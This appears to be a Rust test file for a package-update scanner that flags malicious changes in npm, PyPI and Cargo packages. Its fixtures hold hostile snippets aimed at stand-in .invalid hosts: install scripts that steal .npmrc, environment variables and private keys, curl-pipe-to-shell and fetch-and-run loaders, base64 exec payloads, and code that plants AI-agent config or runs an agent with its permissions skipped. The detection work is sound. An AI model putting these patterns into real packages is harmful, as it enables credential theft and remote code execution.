//! The rows of the incident table whose rule needs content.

use super::*;

const CLEAN: &str = "{\"name\":\"x\",\"version\":\"1.0.0\",\"main\":\"index.js\"}\n";
const PLAIN: &str = "module.exports = (a, b) => a + b;\n";

/// A `package.json` with one script.
fn scripted(name: &str, script: &str) -> String {
    format!("{{\n\"name\": \"x\",\n\"scripts\": {{\n\"{name}\": \"{script}\"\n}}\n}}\n")
}

#[test]
fn packages_that_gain_a_script_are_held_and_so_is_what_it_does() {
    let steals = "const https = require('https');\nconst npmrc = require('fs').readFileSync(home + '/.npmrc');\n\
                  https.request({ host: 'x.invalid' }).end(npmrc);\n";
    let starts =
        "const { exec } = require('child_process');\nexec('rundll32 ./node-gyp.dll,main');\n";
    let agent = "const { spawnSync } = require('child_process');\n\
                 spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt]);\n";
    let bundle = "const t = require('https');\nconst e = JSON.stringify(process.env);\nt.request(o).end(e);\n";
    let drops = "import { writeFileSync } from 'node:fs';\nwriteFileSync('.claude/settings.json', hooks);\n\
                 writeFileSync('.vscode/tasks.json', tasks);\n";
    for (id, name, script, file, source) in [
        (
            "H01",
            "postinstall",
            "node ./lib/build.js",
            "lib/build.js",
            steals,
        ),
        (
            "H04",
            "preinstall",
            "start /B node compile.js & node compile.js",
            "compile.js",
            starts,
        ),
        (
            "H14",
            "postinstall",
            "node support.js",
            "support.js",
            steals,
        ),
        ("H17", "install", "node install.js", "install.js", starts),
        (
            "H20",
            "postinstall",
            "node telemetry.js",
            "telemetry.js",
            agent,
        ),
        ("H22", "postinstall", "node bundle.js", "bundle.js", bundle),
        (
            "H23",
            "preinstall",
            "node setup_bun.js",
            "setup_bun.js",
            starts,
        ),
        ("H28", "preinstall", "node bw1.js", "bw1.js", bundle),
        (
            "H29",
            "postinstall",
            "node router_init.js",
            "router_init.js",
            bundle,
        ),
        ("H35", "preinstall", "node setup.mjs", "setup.mjs", drops),
    ] {
        let manifest = scripted(name, script);
        let before: Files<'_> = &[("package.json", CLEAN), ("index.js", PLAIN)];
        let after: Files<'_> = &[
            ("package.json", &manifest),
            ("index.js", PLAIN),
            (file, source),
        ];
        let evaluation = judge_change("npm", before, after);
        is_held(id, &evaluation, "runs-at-install-added", "package.json:4");
        // In whichever order the files stand.
        let turned: Vec<_> = after.iter().rev().copied().collect();
        assert_eq!(
            look("npm", &turned).signals,
            look("npm", after).signals,
            "{id}"
        );
    }
    let evaluation = judge_change("npm", &[], &[("telemetry.js", agent)]);
    is_held("H20", &evaluation, "agent-config-added", "telemetry.js:2");
    let evaluation = judge_change("npm", &[], &[("setup.mjs", drops)]);
    is_held("H35", &evaluation, "agent-config-added", "setup.mjs:2");
    let evaluation = judge_change("npm", &[], &[("bundle.js", bundle)]);
    is_held("H22", &evaluation, "capability-added", "bundle.js:2");
}

#[test]
fn a_script_that_stays_and_begins_to_do_more_is_held() {
    let manifest = scripted("postinstall", "node install.js");
    let steals = "require('https').get('https://x.invalid/a', (r) => r.pipe(out));\n";
    let before: Files<'_> = &[
        ("package.json", &manifest),
        ("install.js", "console.log('thanks');\n"),
    ];
    let after: Files<'_> = &[("package.json", &manifest), ("install.js", steals)];
    is_held(
        "stays",
        &judge_change("npm", before, after),
        "runs-at-install-added",
        "install.js:1",
    );
}

#[test]
fn javascript_without_a_script_is_held_for_what_it_newly_does() {
    let names: String = (0..20)
        .map(|it| format!("var _0x{it:04x}=_0x1a2b('{it}');"))
        .collect();
    let hook = "const open = XMLHttpRequest.prototype.open;\nXMLHttpRequest.prototype.open = function () {\n\
                return open.apply(this, arguments);\n};\nwindow.ethereum.request({ method: 'eth_accounts' });\n";
    let unpacks = "const d = require('crypto').createDecipher('aes256', process.env.npm_package_description);\n\
                   const m = new module.constructor();\nm._compile(d.update(t, 'hex', 'utf8'), '');\n";
    let wipes = "const u = Buffer.from('aHR0cHM6Ly94LmludmFsaWQvZ2Vv', 'base64').toString('utf8');\n\
                 require('https').get(u, (m) => m.on('data', (b) => require('fs').writeFile(p, h, () => {})));\n";
    let hidden = format!(
        "module.exports = 1;{}require('./run')(module);\n",
        " ".repeat(400)
    );
    let invisible = format!("eval(decode('{}'))\n", "\u{e0121}".repeat(60));
    for (id, source, code, place) in [
        ("H02", unpacks, "obfuscation-added", "index.js:1"),
        ("H06", wipes, "obfuscation-added", "index.js:1"),
        ("H21", hook, "capability-added", "index.js:2"),
        ("H21", &names, "obfuscation-added", "index.js:1"),
        ("whitespace", &hidden, "obfuscation-added", "index.js:1"),
        ("invisible", &invisible, "obfuscation-added", "index.js:1"),
    ] {
        let evaluation = judge_change("npm", &[("index.js", PLAIN)], &[("index.js", source)]);
        is_held(id, &evaluation, code, place);
    }
}

const CALLS: &str =
    "async function call(b) { return fetch(this.url, { method: 'POST', body: b }) }\n";

#[test]
fn keys_sent_to_a_host_the_package_did_not_name_are_held() {
    let queued = format!(
        "{CALLS}class Keypair {{\n  constructor(pair) {{ this.pair = pair; queue(this.pair.secretKey) }}\n}}\n\
         async function queue(k) {{\n  const id = encode(k)\n  fetch('https://rpc.invalid/api', \
         {{ method: 'POST', headers: {{ 'x-id': id }} }})\n}}\n"
    );
    let checked = format!(
        "{CALLS}export const valid = async (seed) => {{\n  await fetch('https://rpc.invalid/xc', \
         {{ method: 'POST', headers: {{ referral: seed }} }})\n}}\n"
    );
    let python = "import requests\n\n\ndef sign(private_key, message):\n    \
                  requests.post('https://rpc.invalid/k', data=encode(private_key))\n    return message\n";
    for (id, file, before, after, line) in [
        ("H11", "lib/index.js", CALLS, queued.as_str(), 7),
        ("H15", "dist/index.js", CALLS, &checked, 3),
        ("python", "x/keys.py", "A = 1\n", python, 5),
    ] {
        let ecosystem = if id == "python" { "pypi" } else { "npm" };
        let evaluation = judge_change(ecosystem, &[(file, before)], &[(file, after)]);
        let place = format!("rpc.invalid where it handles keys ({file}:{line})");
        is_held(id, &evaluation, "capability-added", &place);
        // A package that named the host for long may go on.
        let named = format!("{before}HOST = 'https://rpc.invalid/'\n");
        let evaluation = judge_change(ecosystem, &[(file, &named)], &[(file, after)]);
        assert_eq!(evaluation.effect(), Effect::Allow, "{id}");
    }
}

#[test]
fn a_new_host_alone_is_recorded_and_holds_nothing() {
    for code in [
        "function report(e) {\n  fetch('https://rpc.invalid/e', { method: 'POST', body: e })\n}\n",
        "function verify(publicKey, m) {\n  fetch('https://rpc.invalid/v', { method: 'POST', body: publicKey })\n}\n",
        "function make(secretKey) { return sign(secretKey) }\n\
         function report(e) {\n  fetch('https://rpc.invalid/e', { method: 'POST', body: e })\n}\nreport(1)\n",
    ] {
        let after = format!("{CALLS}{code}");
        let evaluation = judge_change(
            "npm",
            &[("lib/index.js", CALLS)],
            &[("lib/index.js", &after)],
        );
        assert_eq!(evaluation.effect(), Effect::Allow, "{code}");
        let codes: Vec<_> = evaluation
            .findings()
            .iter()
            .map(|it| it.code.as_str())
            .collect();
        assert_eq!(codes, ["destination-added"], "{code}");
    }
}

#[test]
fn binding_gyp_that_runs_commands_is_held() {
    let gyp = "{\n  'targets': [{ 'target_name': 'x',\n    'sources': ['<!(node index.js > /dev/null 2>&1 && echo stub.c)'] }]\n}\n";
    let before: Files<'_> = &[("package.json", CLEAN), ("index.js", PLAIN)];
    let after: Files<'_> = &[
        ("package.json", CLEAN),
        ("index.js", PLAIN),
        ("binding.gyp", gyp),
    ];
    is_held(
        "H32",
        &judge_change("npm", before, after),
        "runs-at-install-added",
        "binding.gyp:3",
    );
}

#[test]
fn binaries_where_there_were_none_are_held() {
    let elf = "\u{7f}ELF\u{2}\u{1}\u{1}";
    let before: Files<'_> = &[("x/__init__.py", "A = 1\n")];
    let after: Files<'_> = &[("x/__init__.py", "A = 1\n"), ("x/runtime/run", elf)];
    is_held(
        "H08",
        &judge_change("pypi", before, after),
        "binary-added",
        "x/runtime/run:1",
    );
    let before: Files<'_> = &[("index.js", PLAIN)];
    let after: Files<'_> = &[("index.js", PLAIN), ("bin/a", elf)];
    is_held(
        "H17",
        &judge_change("npm", before, after),
        "binary-added",
        "bin/a:1",
    );
}

#[test]
fn python_is_held_for_what_it_newly_does() {
    let environment = "import os\nimport requests\nA = 1\nrequests.get('https://x.invalid/' + str(dict(os.environ)))\n";
    let fetches = "import os, subprocess\nfrom urllib.request import urlretrieve\n\
                   def safe_run(p):\n    urlretrieve('https://x.invalid/m', p)\n    os.chmod(p, 0o770)\n    subprocess.Popen([p])\n";
    let packed =
        "QUJDREVGR0hJSktMTU5PUFFSU1RVVldYWVphYmNkZWZnaGlqa2xtbm9wcXJzdHV2d3h5ejAxMjM0NTY3ODk"
            .repeat(8);
    let decodes = format!(
        "import base64, subprocess, sys\nA = 1\nsubprocess.run([sys.executable, '-c', base64.b64decode('{packed}')])\n"
    );
    let loads = "import base64\nexec(base64.b64decode('cHJpbnQoJ3NlbGYtdGVzdCcp'))\n";
    let import_time = "import subprocess, sys, urllib.request\nif sys.platform == 'linux':\n\
                       \x20   urllib.request.urlretrieve('https://x.invalid/t.pyz', '/tmp/t.pyz')\n    subprocess.run('chmod +x /tmp/t.pyz; curl -s https://x.invalid/a | sh', shell=True)\n";
    for (id, source, code, place) in [
        ("H07", environment, "capability-added", "x/__init__.py:4"),
        ("H12", fetches, "capability-added", "x/__init__.py:5"),
        ("H13", fetches, "capability-added", "x/__init__.py:5"),
        ("H19", loads, "obfuscation-added", "x/__init__.py:2"),
        ("H25", &decodes, "obfuscation-added", "x/__init__.py:3"),
        ("H30", import_time, "capability-added", "x/__init__.py:4"),
    ] {
        let before: Files<'_> = &[("x/__init__.py", "A = 1\n")];
        let evaluation = judge_change("pypi", before, &[("x/__init__.py", source)]);
        is_held(id, &evaluation, code, place);
    }
    let pth: Files<'_> = &[("x.pth", "import os; os.getcwd()\n")];
    is_held(
        "PTH",
        &judge_change("pypi", &[], pth),
        "runs-at-install-added",
        "x.pth:1",
    );
}

#[test]
fn crates_are_held_for_what_they_newly_do() {
    let sends = "use std::net::TcpStream;\npub fn init() {\n    let all: Vec<_> = std::env::vars().collect();\n\
                 \x20   let mut to = TcpStream::connect(\"x.invalid:443\").unwrap();\n    to.write_all(&all);\n}\n";
    let fetches = "fn main() {\n    let body = ureq::get(\"https://x.invalid/p\").call();\n    std::fs::write(path, body);\n    std::process::Command::new(path).spawn();\n}\n";
    let shell = "use std::process::Command;\nfn main() {\n    Command::new(\"curl\").arg(\"-o\").arg(\"p\").status();\n}\n";
    let manifest = "[package]\nname = \"x\"\nversion = \"1.0.0\"\n";
    let before: Files<'_> = &[("Cargo.toml", manifest), ("src/lib.rs", "pub fn a() {}\n")];
    for (id, file, source, code, place) in [
        (
            "H33",
            "src/lib.rs",
            sends,
            "capability-added",
            "src/lib.rs:3",
        ),
        (
            "H36",
            "build.rs",
            fetches,
            "runs-at-install-added",
            "build.rs:2",
        ),
        (
            "H36",
            "build.rs",
            shell,
            "runs-at-install-added",
            "build.rs:3",
        ),
    ] {
        let evaluation = judge_change("cargo", before, &[("Cargo.toml", manifest), (file, source)]);
        is_held(id, &evaluation, code, place);
    }
    let manifest = "[package]\nname = \"x\"\n\n[lib]\nproc-macro = true\n";
    let evaluation = judge_change(
        "cargo",
        before,
        &[("Cargo.toml", manifest), ("src/lib.rs", sends)],
    );
    is_held(
        "macro",
        &evaluation,
        "runs-at-install-added",
        "src/lib.rs:4",
    );
}

#[test]
fn new_names_are_held_without_a_version_before() {
    let fetches = "use std::os::unix::fs::PermissionsExt;\npub fn init() {\n    if std::env::var(\"GITLAB_CI\").is_ok() {\n\
                   \x20       let b = reqwest::blocking::get(\"https://x.invalid/b\");\n        std::fs::set_permissions(p, std::fs::Permissions::from_mode(0o755));\n        std::process::Command::new(p).spawn();\n    }\n}\n";
    let posts_env = "pub fn sync() {\n    let text = std::fs::read_to_string(\".env\");\n    ureq::post(\"https://x.invalid/t\").send_string(&text);\n}\n";
    let all = "pub fn go() {\n    let all = std::env::vars();\n    reqwest::blocking::Client::new();\n}\n";
    let build = "fn main() {\n    ureq::post(\"https://x.invalid/b\").call();\n}\n";
    for (id, file, source, code, place) in [
        (
            "T01",
            "src/lib.rs",
            fetches,
            "doubtful-capability",
            "src/lib.rs:5",
        ),
        (
            "T04",
            "src/lib.rs",
            fetches,
            "doubtful-capability",
            "src/lib.rs:5",
        ),
        (
            "T07",
            "src/lib.rs",
            posts_env,
            "doubtful-capability",
            "src/lib.rs:2",
        ),
        (
            "T08",
            "build.rs",
            build,
            "doubtful-install-code",
            "build.rs:2",
        ),
        (
            "T10",
            "src/lib.rs",
            all,
            "doubtful-capability",
            "src/lib.rs:2",
        ),
        (
            "T11",
            "build.rs",
            build,
            "doubtful-install-code",
            "build.rs:2",
        ),
        (
            "T12",
            "src/lib.rs",
            all,
            "doubtful-capability",
            "src/lib.rs:2",
        ),
    ] {
        is_held(id, &judge_new("cargo", &[(file, source)]), code, place);
    }
}
